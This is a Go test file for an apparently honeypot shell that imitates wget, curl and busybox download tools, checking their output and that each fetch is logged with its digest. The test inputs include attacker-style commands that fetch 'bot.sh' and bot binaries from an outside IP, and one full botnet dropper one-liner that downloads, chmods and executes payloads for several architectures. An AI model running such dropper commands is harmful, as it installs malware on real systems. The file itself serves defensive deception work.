package fetch_test

import (
	"crypto/sha256"
	"encoding/hex"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/providers/decky/shell/program/programtest"
	"github.com/decnet/decnet/schema/event"
)

// masks are what no two transfers have in common.
var masks = []struct {
	from *regexp.Regexp
	to   string
}{
	{regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d:\d\d`), "DATE"},
	{regexp.MustCompile(`\d[\d.]* [KMG]?B/s`), "SPEED"},
	{regexp.MustCompile(`100% +[\d.]+[KMG ]=[\d.]+s`), "100% SPEED"},
	{regexp.MustCompile(` \w{3}, \d\d \w{3} \d{4} [\d:]+ GMT`), " DATE"},
	{regexp.MustCompile(`"[0-9a-f]+-[0-9a-f]+"`), "TAG"},
}

func masked(text string) string {
	for _, m := range masks {
		text = m.from.ReplaceAllString(text, m.to)
	}
	return text
}

// The words are those of GNU Wget 1.21.3, curl 7.88.1 and busybox 1.35.0, as
// Debian 12 builds them, against a server on loopback.
func TestTranscripts(t *testing.T) {
	h := programtest.New(t, "root")
	for _, test := range []struct {
		line     string
		out, err string
		status   int
	}{
		{"cd /tmp; wget http://45.95.168.10/bot.sh", "", "--DATE--  http://45.95.168.10/bot.sh\nConnecting to 45.95.168.10:80... connected.\nHTTP request sent, awaiting response... 200 OK\nLength: 126 [application/x-sh]\nSaving to: ‘bot.sh’\n\n     0K                                                       100% SPEED\n\nDATE (SPEED) - ‘bot.sh’ saved [126/126]\n\n", 0},
		{"wget -nv 45.95.168.10/bot.sh", "", "DATE URL:http://45.95.168.10/bot.sh [126/126] -> \"bot.sh.1\" [1]\n", 0},
		{"LANG=C wget -nc http://45.95.168.10/bot.sh", "", "File 'bot.sh' already there; not retrieving.\n\n", 0},
		{"wget -c http://45.95.168.10/bot.sh", "", "--DATE--  http://45.95.168.10/bot.sh\nConnecting to 45.95.168.10:80... connected.\nHTTP request sent, awaiting response... 416 Requested Range Not Satisfiable\n\n    The file is already fully retrieved; nothing to do.\n\n", 0},
		{"wget -q http://45.95.168.10/q.sh; cat q.sh | head -1", "#!/bin/sh\n", "", 0},
		{"wget http://45.95.168.10/404", "", "--DATE--  http://45.95.168.10/404\nConnecting to 45.95.168.10:80... connected.\nHTTP request sent, awaiting response... 404 Not Found\nDATE ERROR 404: Not Found.\n\n", 8},
		{"wget -nv http://45.95.168.10/404", "", "http://45.95.168.10/404:\nDATE ERROR 404: Not Found.\n", 8},
		{"wget --spider http://45.95.168.10/404", "", "Spider mode enabled. Check if remote file exists.\n--DATE--  http://45.95.168.10/404\nConnecting to 45.95.168.10:80... connected.\nHTTP request sent, awaiting response... 404 Not Found\nRemote file does not exist -- broken link!!!\n\n", 8},
		{"wget -P d1 -q http://45.95.168.10/b.sh; ls d1", "b.sh\n", "", 0},
		{"wget http://127.0.0.1:81/x", "", "--DATE--  http://127.0.0.1:81/x\nConnecting to 127.0.0.1:81... failed: Connection refused.\n", 4},
		{"wget http://nonexist.invalid/x", "", "--DATE--  http://nonexist.invalid/x\nResolving nonexist.invalid (nonexist.invalid)... failed: Name or service not known.\nwget: unable to resolve host address ‘nonexist.invalid’\n", 4},
		{"wget -nv http://nonexist.invalid/x", "", "wget: unable to resolve host address ‘nonexist.invalid’\n", 4},
		{"wget -T 1 -t 1 http://10.99.0.1/x", "", "--DATE--  http://10.99.0.1/x\nConnecting to 10.99.0.1:80... failed: Connection timed out.\nGiving up.\n\n", 4},
		{"wget foo://127.0.0.1/x", "", "foo://127.0.0.1/x: Unsupported scheme ‘foo’.\n", 1},
		{"wget http://", "", "http://: Invalid host name.\n", 1},
		{"wget http://127.0.0.1:99999/x", "", "http://127.0.0.1:99999/x: Bad port number.\n", 1},
		{"wget http://127.0.0.1:abc/x", "", "http://127.0.0.1:abc/x: Bad port number.\n", 1},
		{"wget", "", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1},
		{"wget -Z", "", "wget: invalid option -- 'Z'\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 2},
		{"wget --bogus", "", "wget: unrecognized option '--bogus'\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 2},
		{"wget -O /nonexist/x http://45.95.168.10/b.sh", "", "/nonexist/x: No such file or directory\n", 1},
		{"wget -i /dev/null", "", "No URLs found in /dev/null.\n", 0},
		{"wget -o log http://45.95.168.10/l.sh; head -1 log | cut -c 26-", "http://45.95.168.10/l.sh\n", "", 0},
		{"wget -q -O- http://45.95.168.10/bins/x.mips | head -c 20 | od -An -tx1", " 7f 45 4c 46 01 02 01 00 00 00 00 00 00 00 00 00\n 00 02 00 08\n", "", 0},
		{"curl", "", "curl: try 'curl --help' or 'curl --manual' for more information\n", 2},
		{"curl -Z", "", "curl: no URL specified!\ncurl: try 'curl --help' or 'curl --manual' for more information\n", 2},
		{"curl --bogus", "", "curl: option --bogus: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n", 2},
		{"curl -o", "", "curl: option -o: requires parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n", 2},
		{"curl -sS http://nonexist.invalid/", "", "curl: (6) Could not resolve host: nonexist.invalid\n", 6},
		{"curl -s http://nonexist.invalid/", "", "", 6},
		{"curl -sS http://127.0.0.1:81/", "", "curl: (7) Failed to connect to 127.0.0.1 port 81 after 0 ms: Couldn't connect to server\n", 7},
		{"curl -sSf http://45.95.168.10/404", "", "curl: (22) The requested URL returned error: 404\n", 22},
		{"curl -sS --connect-timeout 1 http://10.99.0.1/", "", "curl: (28) Failed to connect to 10.99.0.1 port 80 after 1000 ms: Timeout was reached\n", 28},
		{"curl foo://127.0.0.1/x", "", "curl: (1) Protocol \"foo\" not supported or disabled in libcurl\n", 1},
		{"curl http://", "", "curl: (3) URL using bad/illegal format or missing URL\n", 3},
		{"curl -O http://45.95.168.10/", "", "curl: Remote file name has no length!\ncurl: (23) Failed writing received data to disk/application\n", 23},
		{"curl -s -o /dev/null -w '%{http_code} %{size_download} %{remote_ip}\\n' http://45.95.168.10/p.sh", "200 126 45.95.168.10\n", "", 0},
		{"curl -s -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:81/", "000\n", "", 7},
		{"curl -sI http://45.95.168.10/p.sh | tr -d '\\r'", "HTTP/1.1 200 OK\nServer: nginx\nDate: DATE\nContent-Type: application/x-sh\nContent-Length: 126\nLast-Modified: DATE\nConnection: keep-alive\nETag: TAG\nAccept-Ranges: bytes\n\n", "", 0},
		{"busybox wget http://45.95.168.10/busy", "", "Connecting to 45.95.168.10 (45.95.168.10:80)\nsaving to 'busy'\nbusy                 100% |********************************| 59084  0:00:00 ETA\n'busy' saved\n", 0},
		{"busybox wget http://45.95.168.10/busy", "", "Connecting to 45.95.168.10 (45.95.168.10:80)\nwget: can't open 'busy': File exists\n", 1},
		{"busybox wget http://45.95.168.10/404", "", "Connecting to 45.95.168.10 (45.95.168.10:80)\nwget: server returned error: HTTP/1.1 404 Not Found\n", 1},
		{"busybox wget http://127.0.0.1:81/", "", "Connecting to 127.0.0.1:81 (127.0.0.1:81)\nwget: can't connect to remote host (127.0.0.1): Connection refused\n", 1},
		{"busybox wget http://nonexist.invalid/x", "", "wget: bad address 'nonexist.invalid'\n", 1},
		{"busybox wget foo://127.0.0.1/", "", "wget: not an http or ftp url: foo://127.0.0.1/\n", 1},
		{"busybox wget -q -P nodir http://45.95.168.10/s.sh", "", "wget: can't open 'nodir/s.sh': No such file or directory\n", 1},
		{"busybox wget -O- -q http://45.95.168.10/s.sh | head -1", "#!/bin/sh\n", "", 0},
		{"busybox tftp -g -r x nonexist.invalid", "", "tftp: bad address 'nonexist.invalid'\n", 1},
		{"busybox tftp -g -l t.sh -r s.sh 45.95.168.10; head -1 t.sh", "#!/bin/sh\n", "", 0},
		{"busybox ftpget 45.95.168.10 f.sh s.sh; head -1 f.sh", "#!/bin/sh\n", "", 0},
		{"busybox ftpget 127.0.0.1 x x", "", "ftpget: can't connect to remote host (127.0.0.1): Connection refused\n", 1},
		{"busybox ftpget nonexist.invalid x x", "", "ftpget: bad address 'nonexist.invalid'\n", 1},
	} {
		out, err, status := h.Run(t, test.line, "")
		if diff := cmp.Diff([]any{test.out, test.err, test.status}, []any{masked(out), masked(err), status}); diff != "" {
			t.Errorf("%s\n%s", test.line, diff)
		}
	}
}

func TestSeveralTargetsAreSummedUp(t *testing.T) {
	h := programtest.New(t, "root")
	_, err, status := h.Run(t, "cd /tmp; wget http://45.95.168.10/a http://45.95.168.10/404 http://45.95.168.10/b.sh", "")
	for _, want := range []string{"Reusing existing connection to 45.95.168.10:80.\n", "ERROR 404: Not Found.\n", "FINISHED --", "\nTotal wall clock time: ", "\nDownloaded: 2 files, "} {
		if !strings.Contains(err, want) {
			t.Errorf("no %q in\n%s", want, err)
		}
	}
	if status != 8 {
		t.Errorf("ends with %d, want 8", status)
	}
}

// What was asked for is on record with the digest of what we made for it, so that
// a file of ours is told from one of the client's when it runs.
func TestFetchesAreRecorded(t *testing.T) {
	h := programtest.New(t, "root")
	for line, want := range map[string]string{
		"cd /tmp; wget -qO f http://45.95.168.10/a.sh":      "http://45.95.168.10/a.sh",
		"cd /tmp; curl -so f http://45.95.168.10/a.sh":      "http://45.95.168.10/a.sh",
		"cd /tmp; busybox tftp -g -l f -r b 45.95.168.10":   "tftp://45.95.168.10/b",
		"cd /tmp; busybox ftpget 45.95.168.10 f b":          "ftp://45.95.168.10/b",
		"cd /tmp; rm -f f; wget -q http://host.invalid/x":   "http://host.invalid/x",
		"cd /tmp; rm -f f; curl -s http://127.0.0.1:81/y?":  "http://127.0.0.1:81/y?",
		"cd /tmp; rm -f f; busybox wget -q http://h.test/x": "http://h.test/x",
	} {
		h.Events = nil
		h.Run(t, line, "")
		var found []*event.Transfer
		for _, e := range h.Events {
			if x, ok := e.(*event.Transfer); ok {
				found = append(found, x)
			}
		}
		if len(found) != 1 || string(found[0].Name) != want || found[0].Direction != "download" {
			t.Errorf("%s is recorded as %+v", line, found)
			continue
		}
		data, err := h.Machine.FS.As(0, 0).ReadFile("/tmp/f")
		if err != nil {
			if found[0].SHA256 != "" || found[0].Size != 0 {
				t.Errorf("%s: nothing came, recorded is %+v", line, found[0])
			}
			continue
		}
		if sum := sha256.Sum256(data); found[0].SHA256 != hex.EncodeToString(sum[:]) || found[0].Size != int64(len(data)) {
			t.Errorf("%s: %+v is not what was written", line, found[0])
		}
	}
}

// A dropper as loaders bring it runs to its end, whatever the processor.
func TestDropperRunsToItsEnd(t *testing.T) {
	h := programtest.New(t, "root")
	out, err, _ := h.Run(t, "cd /tmp || cd /var/run; for a in x86 mips arm7 x86_64; do wget -q http://45.95.168.10/bins/bot.$a -O b.$a || curl -sO http://45.95.168.10/bins/bot.$a; chmod 777 b.$a; ./b.$a scan 2>/dev/null; echo $a $?; rm -f b.$a; done; echo done", "")
	if want := "x86 0\nmips 126\narm7 126\nx86_64 0\ndone\n"; out != want || err != "" {
		t.Errorf("got %q %q, want %q", out, err, want)
	}
}
